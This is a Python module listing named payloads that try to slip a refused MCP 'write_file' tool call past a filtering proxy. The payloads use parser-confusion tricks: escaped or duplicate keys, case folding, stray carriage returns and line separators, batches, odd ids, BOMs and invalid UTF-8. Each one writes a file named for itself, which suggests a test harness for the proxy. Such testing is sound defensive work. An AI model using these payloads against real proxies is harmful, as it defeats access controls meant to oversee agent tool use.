r"""Ways to get a refused call past a proxy: lines that one reader takes for one thing and the next for another.

1. Each attempt, were it read as its author hopes, calls `write_file` with its own name as the path: what was executed
   says by itself which attempt got through.
2. `$P` stands for that path. What is written `\r` is a raw carriage return.
Sources: CVE-2026-27896 (case-folded keys), universal newlines of the Python SDK's servers, duplicate keys, and
what proxies of this kind have let pass before.
"""

from __future__ import annotations

HEAD = '"jsonrpc":"2.0","id":"$P","method":"tools/call"'
PARAMS = '"params":{"name":"write_file","arguments":{"path":"$P","content":"x"}}'
ARGUMENTS = '"arguments":{"path":"$P","content":"x"}'
PLAIN = f"{{{HEAD},{PARAMS}}}"
HARMLESS = '"jsonrpc":"2.0","id":"$P","method":"ping"'
ALLOWED = '{"jsonrpc":"2.0","id":"$P","method":"tools/call","params":{"name":"list_allowed_directories"}}'

_TEXTS = {
    "plain": PLAIN,
    "crlf": PLAIN + "\r",
    "escaped-method": PLAIN.replace("tools/call", r"tools\u002fcall"),
    "escaped-slash": PLAIN.replace("tools/call", r"tools\/call"),
    "escaped-name": PLAIN.replace("write_file", r"write\u005ffile"),
    "escaped-keys": PLAIN.replace('"name"', r'"n\u0061me"').replace('"method"', r'"m\u0065thod"'),
    "cr-inside": f'{{{HARMLESS},"params":{{"_meta":{{"x":\r{PLAIN}\r}}}}}}',
    "cr-before": f"\r{PLAIN}",
    "cr-between": f"{{{HARMLESS}}}\r{PLAIN}",
    "cr-in-string": f'{{{HARMLESS},"params":{{"_meta":{{"x":"\r{PLAIN}\r"}}}}}}',
    "next-line": f"{{{HARMLESS}}}\x85{PLAIN}",
    "line-separator": f"{{{HARMLESS}}}\u2028{PLAIN}",
    "form-feed": f"{{{HARMLESS}}}\f{PLAIN}",
    "two-objects": f"{{{HARMLESS}}}{PLAIN}",
    "two-objects-spaced": f"{{{HARMLESS}}} {PLAIN}",
    "duplicate-method": f'{{"method":"ping",{HEAD},{PARAMS}}}',
    "duplicate-method-last": f'{{{HEAD},{PARAMS},"method":"ping"}}',
    "duplicate-escaped": f'{{{HARMLESS},{PARAMS},"m\\u0065thod":"tools/call"}}',
    "duplicate-params": f'{{{HEAD},"params":{{"name":"list_allowed_directories"}},{PARAMS}}}',
    "duplicate-name": f'{{{HEAD},"params":{{"name":"list_allowed_directories","name":"write_file",{ARGUMENTS}}}}}',
    "duplicate-name-last": f'{{{HEAD},"params":{{"name":"write_file",{ARGUMENTS},"name":"list_allowed_directories"}}}}',
    "case-method": f'{{{HARMLESS},"Method":"tools/call",{PARAMS}}}',
    "case-params": f'{{{HEAD},"params":{{"name":"list_allowed_directories"}},{PARAMS.replace("params", "Params")}}}',
    "case-name": f'{{{HEAD},"params":{{"name":"list_allowed_directories","Name":"write_file",{ARGUMENTS}}}}}',
    "long-s": f'{{{HEAD},"params":{{"name":"list_allowed_directories"}},{PARAMS.replace("params", "paramſ")}}}',
    "kelvin": f'{{{HEAD},"params":{{"name":"write_file","tas\u212a":{{}},{ARGUMENTS}}}}}',
    "array-arguments": f'{{{HEAD},"params":{{"name":"write_file","arguments":["$P","x"]}}}}',
    "array-params": f'{{{HEAD},"params":["write_file",{{"path":"$P","content":"x"}}]}}',
    "no-id": PLAIN.replace('"id":"$P",', ""),
    "null-id": PLAIN.replace('"id":"$P"', '"id":null'),
    "float-id": PLAIN.replace('"id":"$P"', '"id":7.5'),
    "true-id": PLAIN.replace('"id":"$P"', '"id":true'),
    "huge-id": PLAIN.replace('"id":"$P"', '"id":9007199254740993'),
    "zero-id": PLAIN.replace('"id":"$P"', '"id":0'),
    "batch": f"[{PLAIN}]",
    "batch-of-two": f"[{{{HARMLESS}}},{PLAIN}]",
    "huge-number": PLAIN.replace('"content"', '"n":1e999,"content"'),
    "many-digits": PLAIN.replace('"content"', f'"n":{"9" * 5000},"content"'),
    "not-a-number": PLAIN.replace('"content"', '"n":NaN,"content"'),
    "deep": PLAIN.replace('"content"', f'"n":{"[" * 1100}{"]" * 1100},"content"'),
    "deep-meta": f'{{{HEAD},"x":{"[" * 90}{"]" * 90},{PARAMS}}}',
    "bom": "\ufeff" + PLAIN,
    "nul": PLAIN.replace('"x"', '"\0"'),
    "nul-before": "\0" + PLAIN,
    "surrogate": PLAIN.replace('"x"', r'"\ud800"'),
    "comment": f"/* */{PLAIN}",
    "trailing-comma": PLAIN[:-1] + ",}",
    "spaces": f"  \t{PLAIN}  ",
    "no-jsonrpc": PLAIN.replace('"jsonrpc":"2.0",', ""),
    "no-method": PLAIN.replace('"method":"tools/call",', ""),
    "spaced-method": PLAIN.replace("tools/call", "tools/call "),
    "upper-method": PLAIN.replace("tools/call", "Tools/Call"),
    "result-beside": PLAIN[:-1] + ',"result":{}}',
    "task": f'{{{HEAD},"params":{{"name":"write_file","task":{{"ttl":1000}},{ARGUMENTS}}}}}',
    "retry": f'{{{HEAD},"params":{{"name":"write_file","inputResponses":{{}},"requestState":"x",{ARGUMENTS}}}}}',
    "content-length": f"Content-Length: {len(PLAIN)}\r\n\r\n{PLAIN}",
    "id-again": f"{ALLOWED}\n{PLAIN}",
}


def attempts() -> dict[str, bytes]:
    """Every attempt by its name, with its line end."""
    found = {name: text.replace("$P", name).encode() for name, text in _TEXTS.items()}
    whole = PLAIN.replace("$P", "invalid-utf-8").encode()
    found["invalid-utf-8"] = whole.replace(b'"x"', b'"\xff\xfe"')
    found["overlong"] = PLAIN.replace("$P", "overlong").encode().replace(b"tools/call", b"tools\xc0\xafcall")
    found["utf-16"] = PLAIN.replace("$P", "utf-16").encode("utf-16-le")
    return {name: line + b"\n" for name, line in found.items()}
